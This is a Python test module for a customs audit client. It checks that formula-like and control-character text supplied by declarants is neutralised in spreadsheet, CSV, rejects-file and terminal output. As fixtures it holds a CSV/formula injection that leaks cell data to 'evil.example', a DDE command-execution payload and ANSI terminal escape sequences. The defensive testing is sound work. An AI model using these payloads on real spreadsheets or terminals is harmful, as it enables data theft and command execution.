"""Text from one party is data for another: a declarant's lots, sites, references and descriptions
reach customs' spreadsheets and terminals, and must stay text there — never a formula, never a
broken file, never an escape sequence. Recorded on the session's chain, audited and written by the
real writers (`pa audit`, `pa bill`, the CSV folder, the rejects file)."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
from support import factories
from support.chain import AnvilNode, Parties

from pa_client.audit.rules import bill_of_discharge
from pa_client.audit.run import AuditRun, run_audit
from pa_client.chain.deployment import save_deployment
from pa_client.cli import main
from pa_client.domain.text import csv_cell, formula_like, from_csv_cell
from pa_client.present import write_audit, write_bill
from pa_client.records.cells import read_csv
from pa_client.records.entries_file import COLUMNS, read_entries
from pa_client.records.rejects import write_rejects
from pa_client.settings import Settings

FORMULA_LOT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_SITE = "=cmd|' /C calc'!A0"
AUDIT_SHEETS = ("Alerts", "Placements", "Discharges", "Stock", "Stock history")
BILL_PERIOD = (date(2024, 9, 1), date(2024, 9, 30))  # the factories' placements are due 30 Sep 2024


@dataclass(frozen=True)
class Hostile:
    reference: str
    settings: Settings
    run: AuditRun


@pytest.fixture(scope="module")
def hostile(parties: Parties, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    """An authorisation whose declarant chose formula-like lots and sites: a placement, a movement
    to the formula site and a discharge from it (so the lot is in every table and an alert)."""
    reference = factories.fresh_reference("FRIPOH")
    parties.customs.register(factories.authorisation(reference))
    parties.holder.appoint(reference, parties.broker.sender.address)
    parties.broker.record(factories.placement(reference, "HOSTILE-P1", FORMULA_LOT, "100"))
    parties.broker.record(
        factories.movement(reference, "HOSTILE-M1", FORMULA_LOT, "40", "BOURGES", FORMULA_SITE)
    )
    parties.broker.record(factories.discharge(reference, "HOSTILE-D1", FORMULA_LOT, "10", site=FORMULA_SITE))
    settings = Settings(data_dir=tmp_path_factory.mktemp("hostile"))
    save_deployment(settings.data_dir, parties.deployment)
    yield Hostile(reference, settings, run_audit(parties.reader, settings, references=[reference]))


def _cells(path: Path) -> dict[str, list[Any]]:
    """Every non-empty cell of every sheet, by sheet title (formulas as openpyxl reads them)."""
    workbook = openpyxl.load_workbook(path)
    try:
        return {
            sheet.title: [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
            for sheet in workbook.worksheets
        }
    finally:
        workbook.close()


def _assert_no_formula(path: Path, sheets: tuple[str, ...], texts: tuple[str, ...]) -> None:
    cells = _cells(path)
    formulas = [
        (title, c.coordinate, c.value) for title, found in cells.items() for c in found if c.data_type == "f"
    ]
    assert formulas == []
    for title in sheets:
        values = {c.value for c in cells[title]}
        assert any(text in values for text in texts), title


# ---------------------------------------------------------------- formulas (finding 2)


def test_formula_like_text_is_recognised_and_numbers_are_not() -> None:
    for text in (FORMULA_LOT, FORMULA_SITE, "+33 1 23", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"):
        assert formula_like(text), text
    for text in (FORMULA_LOT, FORMULA_SITE, "+33 1 23", "-2+3", "@SUM(A1:A9)"):
        assert csv_cell(text) == "'" + text and from_csv_cell(csv_cell(text)) == text
    assert (csv_cell("\tx"), csv_cell("\rx")) == ("\\tx", "\\rx")  # a control character is escaped
    for text in ("-5", "+1.5", "-0.000001", "1e5", "LOT-1", "", "'quoted"):
        assert not formula_like(text), text
        assert csv_cell(text) == text and from_csv_cell(text) == text


def test_the_audit_workbook_holds_the_declarants_text_as_text(hostile: Hostile, tmp_path: Path) -> None:
    written = write_audit(hostile.run.result, hostile.reference, tmp_path, ["xlsx"])
    _assert_no_formula(written["xlsx"], AUDIT_SHEETS, (FORMULA_LOT,))
    _assert_no_formula(written["xlsx"], ("Discharges", "Stock"), (FORMULA_SITE,))


def test_the_bill_workbook_holds_the_declarants_text_as_text(hostile: Hostile, tmp_path: Path) -> None:
    bill = bill_of_discharge(hostile.run.result, hostile.reference, *BILL_PERIOD)
    assert [p.lot for p in bill.placements] == [FORMULA_LOT]
    written = write_bill(bill, tmp_path, ["xlsx"])
    _assert_no_formula(written["xlsx"], ("Placements", "Discharges (FIFO)"), (FORMULA_LOT,))


def test_the_csv_reports_neutralise_formulas_and_keep_numbers(hostile: Hostile, tmp_path: Path) -> None:
    folder = write_audit(hostile.run.result, hostile.reference, tmp_path, ["csv"])["csv"]
    with (folder / "placements.csv").open(encoding="utf-8", newline="") as handle:
        placement = next(csv.DictReader(handle))
    assert placement["lot"] == "'" + FORMULA_LOT
    assert placement["quantity"] == "100.000000"
    with (folder / "discharges.csv").open(encoding="utf-8", newline="") as handle:
        assert next(csv.DictReader(handle))["site"] == "'" + FORMULA_SITE
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not any(formula_like(cell) for cell in row), (path.name, row)


def test_the_rejects_file_neutralises_formulas_and_reads_back_as_sent(tmp_path: Path) -> None:
    source = tmp_path / "entries.csv"
    row = {
        "entry_ref": "=1+1",
        "kind": "discharge",
        "authorisation": "FRIPO000000000042",
        "occurred_at": "2024-03-01",
        "lot": FORMULA_LOT,
        "quantity": "-5",
        "site": FORMULA_SITE,
        "mode": "destruction",
    }
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([COLUMNS, [row.get(c, "") for c in COLUMNS]])
    file = read_entries(source)
    assert file.problems  # the quantity is negative
    rejects = write_rejects(file, {2: ["quantity must be > 0"]})
    assert rejects is not None
    with rejects.open(encoding="utf-8", newline="") as handle:
        written = next(csv.DictReader(handle))
    assert written["lot"] == "'" + FORMULA_LOT and written["site"] == "'" + FORMULA_SITE
    assert written["entry_ref"] == "'=1+1" and written["quantity"] == "-5"
    # Read back (as `pa submit` reads a file), the rejects file gives the cells that were refused.
    ((_, again),) = read_csv(rejects).rows
    assert again[: len(COLUMNS)] == [row.get(c, "") for c in COLUMNS]


# ---------------------------------------------------------------- control characters (finding 3)

CONTROL_REF = "CTRL-1\x00"
CONTROL_LOT = "LOT-\x1b[31mRED\x1b[0m"
CONTROL_DESCRIPTION = "Tread\x0b rubber \x1b[31mred"


def _problems(source: Path, row: dict[str, str]) -> list[str]:
    with source.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([COLUMNS, [row.get(c, "") for c in COLUMNS]])
    return [str(problem) for problem in read_entries(source).problems]


def test_the_reader_refuses_control_characters_naming_row_field_and_value(tmp_path: Path) -> None:
    row = {
        "entry_ref": CONTROL_REF,
        "kind": "placement",
        "authorisation": "FRIPO000000000042",
        "occurred_at": "2024-03-01",
        "lot": "LOT\x85-1",
        "goods_code": "40061000",
        "description": CONTROL_DESCRIPTION,
        "quantity": "5",
        "unit": "KGM",
        "site": "BOURGES",
        "declaration": factories.mrn(),
        "procedure": "5100",
        "customs_value": "100",
        "duty_rate": "3",
        "origin": "US",
    }
    path = tmp_path / "entries.csv"
    assert _problems(path, row) == [
        f"{path}:2: column 'entry_ref' = 'CTRL-1\\x00': holds the control character U+0000 at character 7; "
        "a record's text holds printable characters only",
        f"{path}:2: column 'lot' = 'LOT\\x85-1': holds the control character U+0085 at character 4; "
        "a record's text holds printable characters only",
        f"{path}:2: column 'description' = 'Tread\\x0b rubber \\x1b[31mred': holds the control character "
        "U+000B at character 6; a record's text holds printable characters only",
    ]


@dataclass(frozen=True)
class Control:
    reference: str
    settings: Settings
    rpc_url: str


@pytest.fixture(scope="module")
def control(parties: Parties, anvil: AnvilNode, tmp_path_factory: pytest.TempPathFactory) -> Control:
    """Records with control characters, as they may be on a chain already (recorded by another
    client, or before the reader refused them): written straight to the ledger."""
    reference = factories.fresh_reference("FRIPOC")
    parties.customs.register(factories.authorisation(reference))
    parties.holder.appoint(reference, parties.broker.sender.address)
    placement = factories.placement(reference, CONTROL_REF, CONTROL_LOT, "100")
    parties.broker.record(placement.model_copy(update={"description": CONTROL_DESCRIPTION}))
    parties.broker.record(factories.discharge(reference, "CTRL-D\x1b]0;title\x07", CONTROL_LOT, "10"))
    settings = Settings(data_dir=tmp_path_factory.mktemp("control"))
    save_deployment(settings.data_dir, parties.deployment)
    return Control(reference, settings, anvil.rpc_url)


def _pa(control: Control, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["--rpc-url", control.rpc_url, "--data-dir", str(control.settings.data_dir), *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_pa_audit_and_pa_bill_write_every_format_of_what_is_on_the_chain(
    control: Control, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = _pa(
        control,
        capsys,
        "audit",
        "-a",
        control.reference,
        "--format",
        "json,html,xlsx,csv",
        "--out",
        str(tmp_path),
    )
    assert (code, err) == (0, ""), out
    workbook = next((tmp_path / control.reference).glob("*.xlsx"))
    values = {c.value for found in _cells(workbook).values() for c in found}
    assert {"CTRL-1\\x00", "LOT-\\x1b[31mRED\\x1b[0m", "Tread\\x0b rubber \\x1b[31mred"} <= values
    with (
        next((tmp_path / control.reference).glob("*-csv"))
        .joinpath("placements.csv")
        .open(encoding="utf-8") as f
    ):
        placement = next(csv.DictReader(f))
    assert (placement["entry_ref"], placement["description"]) == (
        "CTRL-1\\x00",
        "Tread\\x0b rubber \\x1b[31mred",
    )
    code, out, err = _pa(
        control,
        capsys,
        "bill",
        control.reference,
        "--from",
        "2024-09-01",
        "--to",
        "2024-09-30",
        "--out",
        str(tmp_path),
    )
    assert (code, err) == (0, ""), out
    assert "1 placements" in out


def test_pa_alerts_prints_no_escape_sequence_from_record_text(
    control: Control, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = _pa(control, capsys, "alerts", "-a", control.reference)
    assert code == 0, err
    assert "CTRL-1\\x00" in out  # the entry, its NUL shown
    assert not [c for c in out + err if c != "\n" and (ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0)]
